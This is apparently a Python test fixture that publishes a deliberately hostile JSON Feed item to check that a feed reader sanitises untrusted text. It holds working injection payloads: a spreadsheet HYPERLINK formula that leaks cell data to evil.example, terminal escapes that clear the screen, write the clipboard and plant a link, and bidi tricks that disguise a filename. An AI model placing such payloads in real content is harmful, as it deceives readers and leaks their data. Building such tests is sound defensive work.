"""A feed whose text is hostile to whoever reads it: a spreadsheet formula, terminal escape
sequences (clear screen, OSC 52 clipboard write, OSC 8 link), bidi overrides and isolates,
Unicode line separators. Published as a JSON Feed, whose strings may hold any character."""

from __future__ import annotations

import json
import re

from support.feedserver import FeedServer, published_now

ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
RLO, LRI, PDI, LS, PS, NEL = "\u202e", "\u2066", "\u2069", "\u2028", "\u2029", "\x85"
CLEAR = ESC + "[2J"
CLIPBOARD = ESC + "]52;c;ZWNobyBoaQ==" + BEL
LINK = ESC + "]8;;http://evil.example/" + ESC + "\\click" + ESC + "]8;;" + ESC + "\\"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Pirate IPTV raid")'
TITLE = f"{FORMULA} pirate IPTV raid {RLO}gnp.exe{PDI} {CLEAR}{CLIPBOARD}"
BODY = (f"Police raided a pirate IPTV service and arrested three suspects. {LINK} "
        f"{LRI}isolated{PDI} {CLEAR} next{LS}forged line{PS}{NEL}{CSI}31m red. ") * 4
# What no output a person reads may hold: C0 but newline and tab, DEL, C1, separators, bidi.
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def publish_hostile(server: FeedServer, path: str = "/hostile.json", *,
                    title: str = TITLE, body: str = BODY, source: str = "Hostile " + CLEAR) -> str:
    """A JSON Feed of one hostile item (its page on the server is never fetched); its URL."""
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": source,
            "items": [{"id": "hostile-1", "url": server.url("/news/hostile"), "title": title,
                       "content_text": body, "date_published": published_now(iso=True)}]}
    return server.put(path, json.dumps(feed), "application/feed+json")
